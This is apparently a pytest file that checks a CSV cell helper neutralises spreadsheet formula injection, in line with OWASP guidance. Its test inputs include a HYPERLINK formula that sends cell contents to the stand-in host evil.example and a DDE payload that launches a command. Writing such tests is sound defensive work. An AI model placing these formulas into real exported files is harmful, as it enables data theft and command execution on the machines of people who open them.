"""CSV cells never run as spreadsheet formulas (OWASP CSV injection)."""

from __future__ import annotations

import pytest

from api.services.csvcells import text_cell


@pytest.mark.parametrize(
    "text",
    [
        "=1+2",
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+41 79 000 00 00",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=cmd|' /C calc'!A0",
        "\r=1",
        "\n=1",
        "\x00=1",
    ],
)
def test_formula_starters_and_control_characters_are_prefixed(text: str) -> None:
    assert text_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["", "plain", "a=b", "1+2", " =not-first", "'=already quoted", "ada@example.org"])
def test_other_text_is_unchanged(text: str) -> None:
    assert text_cell(text) == text
